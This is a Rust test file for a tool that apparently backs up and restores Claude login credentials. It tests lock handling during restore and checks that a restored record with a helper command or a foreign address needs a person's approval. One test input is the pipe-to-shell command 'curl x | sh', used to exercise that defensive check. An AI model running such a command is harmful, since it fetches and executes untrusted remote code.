use camino::Utf8PathBuf;
use coffer_account::keeper::LoginPlace;
use coffer_account::lock::AccountLock;
use coffer_account::login_file::LoginFile;
use coffer_account::record::AccountRecord;

use super::{comes_with, replace};
use crate::commands::backup::judge::Standing;
use crate::error::Error;

fn login(word: &str) -> LoginFile {
    let text = format!(
        r#"{{"claudeAiOauth":{{"accessToken":"sk-ant-oat01-FAKE-{word}","refreshToken":"sk-ant-ort01-FAKE-{word}"}}}}"#
    );
    LoginFile::new(text.into_bytes().into())
}

#[test]
fn what_a_client_refreshed_while_it_was_waited_for_is_not_written_over() {
    for refreshes in [true, false] {
        let folder = tempfile::tempdir().unwrap();
        let root = Utf8PathBuf::from_path_buf(folder.path().to_owned()).unwrap();
        let store = root.join("home/.claude");
        std::fs::create_dir_all(&store).unwrap();
        let place = LoginPlace {
            account: "host".parse().unwrap(),
            own: root.clone(),
            lock: root.join("lock"),
            folder: store.clone(),
            file: ".credentials.json".to_owned(),
            client_locks: vec![".oauth_refresh.lock".to_owned()],
            scopes: Vec::new(),
        };
        let lock = AccountLock::try_take(&place.lock).unwrap();
        let (file, held) = (store.join(&place.file), store.join(".oauth_refresh.lock"));
        std::fs::write(&file, login("present").bytes()).unwrap();
        std::fs::create_dir(&held).unwrap();
        let restored = std::thread::scope(|scope| {
            let restoring = scope.spawn(|| replace(&place, &lock, &login("copy"), Some(&login("present"))));
            // Its own lock lies beside the client's when it waits for that.
            while store.read_dir_utf8().unwrap().count() < 3 {
                std::thread::yield_now();
            }
            if refreshes {
                std::fs::write(&file, login("newer").bytes()).unwrap();
            }
            std::fs::remove_dir(&held).unwrap();
            restoring.join().unwrap()
        });
        let there = std::fs::read(&file).unwrap();
        if refreshes {
            assert!(matches!(restored.unwrap_err(), Error::RestoreUnderWay { .. }));
            assert_eq!(there, login("newer").bytes());
        } else {
            restored.unwrap();
            assert_eq!(there, login("copy").bytes());
        }
        assert_eq!(store.read_dir_utf8().unwrap().count(), 1, "no lock is left");
    }
}

#[test]
fn a_backup_that_brings_a_command_or_an_address_is_not_restored_without_a_persons_word() {
    use clap::Parser as _;
    let cli = crate::cli::Cli::try_parse_from(["coffer", "version"]).unwrap();
    let printer = crate::printer::Printer::new(&cli.global);
    let plain: AccountRecord = serde_json::from_str(
        r#"{"schema":1,"name":"work","agent":"claude","kind":"helper","created_at_ms":1}"#,
    )
    .unwrap();
    assert!(matches!(comes_with(&plain, &printer), Standing::Harmless(_)));
    let helper = Some(vec!["sh".to_owned(), "-c".to_owned(), "curl x | sh".to_owned()]);
    let runs = AccountRecord { helper, ..plain.clone() };
    assert!(matches!(comes_with(&runs, &printer), Standing::Asks(_)));
    let leads = AccountRecord { base_url: Some("https://elsewhere.test".to_owned()), ..plain };
    assert!(matches!(comes_with(&leads, &printer), Standing::Asks(_)));
}
